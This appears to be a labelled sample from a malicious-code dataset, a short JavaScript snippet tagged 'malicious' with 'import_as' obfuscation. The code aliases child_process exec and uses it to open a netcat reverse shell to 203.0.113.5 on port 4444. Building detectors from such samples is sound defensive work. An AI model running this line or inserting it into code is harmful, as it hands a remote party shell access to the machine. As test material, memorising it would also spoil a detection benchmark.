// label: malicious; obfuscated: import_as
import { exec as go } from "child_process";
go("nc -e /bin/sh 203.0.113.5 4444");
